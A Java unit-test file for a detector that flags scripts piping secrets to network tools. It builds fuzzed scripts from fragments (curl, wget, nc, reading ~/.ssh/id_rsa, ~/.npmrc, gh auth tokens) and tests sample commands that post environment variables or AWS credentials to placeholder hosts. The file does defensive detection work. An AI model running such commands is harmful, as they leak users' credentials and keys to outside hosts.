package lazaret.vetting.inspect.script;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Commands that pass secrets to a program that sends. Nothing here is ever run.
final class ScriptExfiltrationTest {
  /// A comment that names a program that sends. It has no effect, but each line is then read.
  private static final String NAMED = "# curl \n";

  private static final List<String> PIECES =
      List.of(
          ("curl ¦CURL.exe ¦wget\t¦httpie ¦xh\f¦nc ¦ncat ¦socat\u000B¦Invoke-WebRequest ¦iwr ¦irm\r\n¦sync ¦func "
                  + "¦nc.x¦libcurl ¦/usr/bin/curl ¦env | ¦printenv|¦cat ~/.ssh/id_rsa | ¦$(gh auth token)"
                  + "¦x=$(env)\n¦env > out\n¦-d @out ¦-d \"$x\" ¦--data=@~/.npmrc ¦http://203.0.113.7/ "
                  + "¦`id` ¦|¦\n¦ ¦#¦$(¦)¦{ ¦ }¦\\\n¦<<E\n¦E\n¦JSON.stringify(process.env)"
                  + "¦dumps(dict(os.environ))¦data = os.environ,¦ENV.to_json¦Object.entries(PROCESS.ENV)"
                  + "¦map { $ENV{$_} }¦\u00E9¦/proc/self/environ")
              .split("¦", -1));

  @Test
  void skipsOnlyScriptsWithoutSuchCommands() {
    var random = new Random(20);
    int found = 0;
    for (int i = 0; i < 60_000; i++) {
      var script = new StringBuilder();
      for (int pieces = random.nextInt(8); pieces >= 0; pieces--) {
        script.append(PIECES.get(random.nextInt(PIECES.size())));
      }
      boolean fetches = random.nextBoolean();
      int whole = find(NAMED + script, fetches);
      int expected = whole < 0 ? -1 : whole - NAMED.length();

      assertThat(find(script.toString(), fetches)).as(script.toString()).isEqualTo(expected);
      found += whole < 0 ? 0 : 1;
    }
    assertThat(found).isGreaterThan(500);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "env | curl -d @- https://x.example/",
        "curl.exe -d \"$(printenv)\" https://x.example/",
        "x=$(env)\nwget --post-data=\"$x\" https://x.example/",
        "printenv > out\nxh -d @out https://x.example/",
        "a | NC\t-d @- \"$(cat ~/.aws/credentials)\"",
      })
  void findsCommandsThatSendSecrets(String script) {
    assertThat(find(script, false)).isNotNegative();
  }

  @Test
  void findsTheEnvironmentAsOneTextOnlyIfTheScriptFetches() {
    String script = "fetch(u, {body: JSON.stringify(process.env)})";

    assertThat(find(script, true)).isZero();
    assertThat(find(script, false)).isNegative();
  }

  private static int find(String script, boolean fetches) {
    byte[] bytes = script.getBytes(ISO_8859_1);
    return ScriptExfiltration.find(bytes, bytes.length, fetches);
  }
}
